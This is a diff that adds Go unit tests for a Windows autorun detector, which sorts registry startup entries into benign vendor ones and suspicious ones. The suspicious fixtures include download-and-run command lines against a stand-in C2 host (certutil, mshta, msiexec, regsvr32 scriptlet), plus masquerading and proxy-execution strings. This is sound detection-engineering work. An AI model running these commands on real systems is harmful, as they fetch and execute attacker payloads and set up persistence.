@@ -1,0 +1,95 @@
+package payload
+
+import (
+	"slices"
+	"testing"
+)
+
+var testEnv = map[string]string{
+	"SYSTEMROOT": `C:\Windows`, "WINDIR": `C:\Windows`, "PROGRAMFILES": `C:\Program Files`, "PROGRAMDATA": `C:\ProgramData`,
+	"APPDATA": `C:\Users\alice\AppData\Roaming`, "LOCALAPPDATA": `C:\Users\alice\AppData\Local`, "TEMP": `C:\Users\alice\AppData\Local\Temp`,
+	"PUBLIC": `C:\Users\Public`, "COMSPEC": `C:\Windows\system32\cmd.exe`,
+}
+
+func TestImageIndicators(t *testing.T) {
+	tests := []struct {
+		name, value, data string
+		want              []string
+	}{
+		// Benign: what vendors install.
+		{"security health", "SecurityHealth", `%windir%\system32\SecurityHealthSystray.exe`, nil},
+		{"defender", "WindowsDefender", `"%ProgramFiles%\Windows Defender\MSASCuiL.exe"`, nil},
+		{"onedrive per user", "OneDrive", `"C:\Users\alice\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background`, nil},
+		{"teams squirrel", "com.squirrel.Teams.Teams", `"C:\Users\alice\AppData\Local\Microsoft\Teams\Update.exe" --processStart "Teams.exe"`, nil},
+		{"discord", "Discord", `"C:\Users\alice\AppData\Local\Discord\Update.exe" --processStart Discord.exe`, nil},
+		{"spotify", "Spotify", `"C:\Users\alice\AppData\Roaming\Spotify\Spotify.exe" --autostart --minimized`, nil},
+		{"zoom", "Zoom", `"C:\Users\alice\AppData\Roaming\Zoom\bin\Zoom.exe" --autostart`, nil},
+		{"realtek driverstore", "RtkAudUService", `"C:\Windows\System32\DriverStore\FileRepository\realtekservice.inf_amd64_4b1ef1cbbea2b5f1\RtkAudUService64.exe" -background`, nil},
+		{"logitech rundll32", "LogitechDownloadAssistant", `C:\Windows\system32\rundll32.exe C:\Windows\System32\LogiLDA.dll,LogiFetch`, nil},
+		{"explorer shell", "Shell", `explorer.exe`, nil},
+		{"onedrive cleanup", "Delete Cached Update Binary", `C:\Windows\system32\cmd.exe /q /c del /q "C:\Users\alice\AppData\Local\Microsoft\OneDrive\Update\OneDriveSetup.exe"`, nil},
+		{"printer applet", "x", `rundll32.exe printui.dll,PrintUIEntry /ga /n\\srv\p`, nil},
+		{"chcp", "x", `chcp.com 65001`, nil},
+		{"edge package name", "x", `"C:\Program Files\WindowsApps\Microsoft.WindowsTerminal_1.18.3181.0_x64__8wekyb3d8bbwe\wt.exe"`, nil},
+
+		// Malicious: public tooling and malware reports.
+		{"svchost in appdata", "svchost", `C:\Users\alice\AppData\Roaming\svchost.exe`, []string{"masquerading_image", "staging_folder_image"}},
+		{"csrss in programdata sub", "x", `C:\ProgramData\Microsoft\csrss.exe`, []string{"masquerading_image"}},
+		{"explorer in temp", "x", `%TEMP%\explorer.exe`, []string{"masquerading_image", "staging_folder_image"}},
+		{"users public", "x", `C:\Users\Public\Libraries\update.exe`, []string{"staging_folder_image"}},
+		{"programdata root", "x", `C:\ProgramData\winupd.exe`, []string{"staging_folder_image"}},
+		{"recycle bin", "x", `C:\$Recycle.Bin\S-1-5-21-1\host.exe`, []string{"staging_folder_image"}},
+		{"random names", "x", `C:\Users\alice\AppData\Local\Xk3vQp9RtL2w\mNz7qTb.exe`, []string{"random_name"}},
+		{"random lowercase", "x", `C:\ProgramData\Sync\xkqvtzbrmw.exe`, []string{"random_name"}},
+		{"onedrive elsewhere", "OneDrive", `C:\Users\alice\AppData\Roaming\Microsoft\Windows\od.exe`, []string{"autorun_name_mismatch"}},
+		{"security health powershell", "SecurityHealth", `powershell -w hidden -c calc`, []string{"autorun_name_mismatch"}},
+		{"screen saver", "x", `C:\Users\alice\AppData\Roaming\Microsoft\ss.scr /s`, []string{"unusual_extension"}},
+		{"double extension", "x", `C:\Users\alice\Documents\invoice.pdf.exe`, []string{"unusual_extension"}},
+		{"control applet", "x", `control.exe C:\Users\alice\AppData\Local\x.cpl`, []string{"unusual_extension"}},
+		{"rundll32 bare dll", "x", `rundll32.exe update.dll,Start`, []string{"rundll32_unusual_dll"}},
+		{"rundll32 public dll", "x", `rundll32 C:\Users\Public\p.dat,DllRegisterServer`, []string{"rundll32_unusual_dll"}},
+		{"pcalua", "x", `pcalua.exe -a C:\Users\Public\x.exe`, []string{"lolbin_proxy", "staging_folder_image", "user_writable_image"}},
+		{"forfiles", "x", `forfiles /p c:\windows\system32 /m notepad.exe /c "cmd /c C:\Users\Public\x.exe"`, []string{"lolbin_proxy", "staging_folder_image"}},
+		{"cmd start public", "x", `cmd.exe /c start "" /min C:\Users\Public\run.exe`, []string{"staging_folder_image", "user_writable_image"}},
+		{"conhost headless", "x", `conhost.exe --headless powershell -c calc`, []string{"lolbin_proxy"}},
+		{"explorer path", "x", `explorer.exe C:\ProgramData\a.exe`, []string{"staging_folder_image"}},
+		{"url.dll", "x", `rundll32.exe url.dll,FileProtocolHandler C:\Users\alice\AppData\Local\Temp\p.exe`, []string{"lolbin_proxy", "staging_folder_image"}},
+		{"wmic", "x", `wmic process call create "C:\Windows\Temp\svchost.exe"`, []string{"lolbin_proxy", "masquerading_image", "staging_folder_image"}},
+		{"msiexec http", "x", `msiexec /q /i http://c2.example.invalid/a.msi`, []string{"lolbin_proxy"}},
+		{"certutil", "x", `certutil -urlcache -split -f http://c2.example.invalid/a a.exe`, []string{"lolbin_proxy"}},
+		{"mshta", "x", `mshta.exe http://c2.example.invalid/a.hta`, []string{"lolbin_proxy"}},
+		{"wscript public", "x", `wscript.exe //B C:\Users\Public\x.js`, []string{"lolbin_proxy"}},
+		{"msbuild", "x", `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\Public\a.xml`, []string{"lolbin_proxy"}},
+		{"regsvr32 scriptlet", "x", `regsvr32 /s /n /u /i:http://c2.example.invalid/file.sct scrobj.dll`, []string{"lolbin_proxy"}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := ImageIndicators(tt.value, tt.data, testEnv)
+			if tt.want == nil {
+				if got != nil {
+					t.Errorf("ImageIndicators(%q) = %q, want none", tt.data, got)
+				}
+				return
+			}
+			for _, id := range tt.want {
+				if !slices.Contains(got, id) {
+					t.Errorf("ImageIndicators(%q) = %q, lacks %s", tt.data, got, id)
+				}
+			}
+		})
+	}
+}
+
+func TestRandomWord(t *testing.T) {
+	for _, s := range []string{"Xk3vQp9RtL2w", "mNz7qTb", "kJqVwNtR", "xkqvtzbrmw"} {
+		if !randomWord(s) {
+			t.Errorf("randomWord(%q) = false", s)
+		}
+	}
+	for _, s := range []string{"MicrosoftEdgeUpdate", "RtkAudUService64", "SynTPEnh", "MSASCuiL", "iTunesHelper", "igfxpers",
+		"4b1ef1cbbea2b5f1", "0A1B2C3D4E5F60718293A4B5C6D7E8F9", "8wekyb3d8bbwe", "nvspcap64", "RtkNGUI64", "vmtoolsd", "WindowsPowerShell", "GoogleDriveFS", "Framework64", "jusched"} {
+		if randomWord(s) {
+			t.Errorf("randomWord(%q) = true", s)
+		}
+	}
+}
